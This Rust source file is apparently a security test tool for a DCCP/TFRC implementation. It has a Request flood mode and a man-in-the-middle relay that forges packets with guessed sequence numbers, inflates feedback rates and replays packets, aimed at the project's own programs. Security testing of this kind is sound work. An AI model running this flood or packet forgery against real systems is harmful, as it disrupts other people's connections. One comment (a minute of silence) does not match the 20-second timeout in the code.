//! Attacks on running programs, over real sockets; `docs/security.md` says what each shows.
//!
//! * `attack requests ADDRESS COUNT`: Requests of strangers to `tfrc recv`, each from another pair
//!   of ports.
//! * `attack relay LISTEN ADDRESS forge|inflate|replay`: stands between `tfrc send` and `tfrc
//!   recv`. `forge` adds ten packets with guessed numbers to each that passes, `inflate` rewrites
//!   Receive Rate to 4 GB/s and p to none, `replay` sends each packet again ten times.
//!
//! For programs of your own, on your own machine.

#![allow(
    clippy::disallowed_methods,
    clippy::disallowed_macros,
    reason = "a program for the terminal, with real sockets and clocks"
)]

use std::net::{SocketAddr, UdpSocket};
use std::time::{Duration, Instant};

use tfrc_dccp::wire::{
    Header, Integrity, Opt, OptionList, Packet, PacketType, Reset, ResetCode, SeqAck, Sequence, ServiceCode,
    options,
};
use tfrc_units::SeqNo48;

type Failure = Box<dyn std::error::Error>;

/// The DCCP port of `tfrc`.
const PORT: u16 = 6511;

fn main() -> Result<(), Failure> {
    let words: Vec<String> = std::env::args().skip(1).collect();
    match words.iter().map(String::as_str).collect::<Vec<_>>().as_slice() {
        ["requests", to, count] => requests(to.parse()?, count.parse()?),
        ["relay", listen, to, "forge"] => relay(listen.parse()?, to.parse()?, Deed::Forge),
        ["relay", listen, to, "inflate"] => relay(listen.parse()?, to.parse()?, Deed::Inflate),
        ["relay", listen, to, "replay"] => relay(listen.parse()?, to.parse()?, Deed::Replay),
        _ => {
            Err("usage: attack requests ADDRESS COUNT | attack relay LISTEN ADDRESS forge|inflate|replay"
                .into())
        }
    }
}

fn emit(ports: (u16, u16), header: Header, options: &[u8], payload: &[u8]) -> Result<Vec<u8>, Failure> {
    let (source_port, destination_port) = ports;
    let packet = Packet { source_port, destination_port, ccval: 0, coverage: 0, header, options, payload };
    let mut bytes = Vec::new();
    packet.emit(&mut bytes, Integrity::Udp)?;
    Ok(bytes)
}

/// Requests from forty UDP ports with all DCCP ports each.
fn requests(to: SocketAddr, count: u32) -> Result<(), Failure> {
    let sockets: Vec<UdpSocket> =
        (0..40).map(|_| UdpSocket::bind("127.0.0.1:0")).collect::<Result<_, _>>()?;
    for socket in &sockets {
        socket.set_nonblocking(true)?;
    }
    let begin = Instant::now();
    let mut noise = NoiseSource(1);
    let (mut sent, mut answers, mut bytes_in) = (0, [0_u64; 3], 0);
    let mut buffer = [0; 2000];
    for (n, socket) in (0..count).zip(sockets.iter().cycle()) {
        let port = u16::try_from(1024 + n / 40 % 64_000)?;
        let header = Header::Request { seq: SeqNo48::new(noise.next() >> 16), service: ServiceCode::NONE };
        let request = emit((port, PORT), header, &[], &[])?;
        sent += socket.send_to(&request, to).unwrap_or(0);
        while let Ok((length, _)) = socket.recv_from(&mut buffer) {
            bytes_in += length;
            let kind = Packet::parse(buffer.get(..length).unwrap_or_default(), Integrity::Udp)
                .map(|packet| packet.header.kind());
            let slot = match kind {
                Ok(PacketType::Response) => 0,
                Ok(PacketType::Reset) => 1,
                _ => 2,
            };
            if let Some(slot) = answers.get_mut(slot) {
                *slot += 1;
            }
        }
        if n.is_multiple_of(200) {
            // About twenty thousand a second.
            std::thread::sleep(Duration::from_millis(10));
        }
    }
    let [responses, resets, others] = answers;
    println!(
        "{count} Requests in {:.1} s: {sent} bytes out, {bytes_in} bytes back; {responses} Responses, {resets} Resets, {others} others",
        begin.elapsed().as_secs_f64()
    );
    Ok(())
}

#[derive(Clone, Copy, PartialEq, Eq)]
enum Deed {
    Forge,
    Inflate,
    Replay,
}

/// Passes packets on between senders to `listen` and `to`, until a minute of silence.
fn relay(listen: SocketAddr, to: SocketAddr, deed: Deed) -> Result<(), Failure> {
    let near = UdpSocket::bind(listen)?;
    let far = UdpSocket::bind("127.0.0.1:0")?;
    far.connect(to)?;
    println!("listening on {}", near.local_addr()?);
    near.set_nonblocking(true)?;
    far.set_nonblocking(true)?;
    let (mut client, mut last) = (None, Instant::now());
    let (mut passed, mut added) = (0_u64, 0_u64);
    let mut noise = NoiseSource(7);
    let mut buffer = [0; 4000];
    while last.elapsed() < Duration::from_secs(20) {
        let mut idle = true;
        if let Ok((length, from)) = near.recv_from(&mut buffer) {
            client = Some(from);
            idle = false;
            for bytes in tamper(buffer.get(..length).unwrap_or_default(), deed, &mut noise)? {
                far.send(&bytes)?;
                added += 1;
            }
            passed += 1;
        }
        if let Ok(length) = far.recv(&mut buffer)
            && let Some(client) = client
        {
            idle = false;
            for bytes in tamper(buffer.get(..length).unwrap_or_default(), deed, &mut noise)? {
                near.send_to(&bytes, client)?;
                added += 1;
            }
            passed += 1;
        }
        if idle {
            std::thread::sleep(Duration::from_micros(200));
        } else {
            last = Instant::now();
        }
    }
    println!("{passed} packets passed, {} added", added.saturating_sub(passed));
    Ok(())
}

/// Returns the packets that go on in place of `bytes`, by the `deed`.
fn tamper(bytes: &[u8], deed: Deed, noise: &mut NoiseSource) -> Result<Vec<Vec<u8>>, Failure> {
    let Ok(packet) = Packet::parse(bytes, Integrity::Udp) else { return Ok(vec![bytes.to_vec()]) };
    let ports = (packet.source_port, packet.destination_port);
    match deed {
        Deed::Replay => Ok(vec![bytes.to_vec(); 11]),
        Deed::Forge => {
            let mut all = vec![bytes.to_vec()];
            for n in 0..10 {
                let (seq, ack) = (SeqNo48::new(noise.next() >> 16), SeqNo48::new(noise.next() >> 16));
                let header = match n % 5 {
                    0 => Header::Reset { seq, ack, reset: Reset::new(ResetCode::Closed) },
                    1 => Header::Close { seq, ack },
                    2 => Header::Sync { seq, ack },
                    3 => Header::Ack { numbers: SeqAck::Long { seq, ack } },
                    _ => Header::Data { seq: Sequence::Long(seq) },
                };
                all.push(emit(ports, header, &[], b"forged")?);
            }
            Ok(all)
        }
        Deed::Inflate => {
            let kind = packet.header.kind();
            if !matches!(kind, PacketType::Ack | PacketType::DataAck) {
                return Ok(vec![bytes.to_vec()]);
            }
            let mut list = OptionList::new(OptionList::MAX);
            for item in options(kind, packet.options).flatten() {
                let Ok(option) = item.option else { continue };
                list.push(&match option {
                    Opt::ReceiveRate(_) => Opt::ReceiveRate(u32::MAX),
                    Opt::LossEventRate(_) => Opt::LossEventRate(u32::MAX),
                    other => other,
                })?;
            }
            Ok(vec![emit(ports, packet.header, list.padded(), packet.payload)?])
        }
    }
}

/// Numbers without a pattern.
struct NoiseSource(u64);

impl NoiseSource {
    const fn next(&mut self) -> u64 {
        self.0 ^= self.0 << 13;
        self.0 ^= self.0 >> 7;
        self.0 ^= self.0 << 17;
        self.0.wrapping_mul(0x2545_F491_4F6C_DD1D)
    }
}
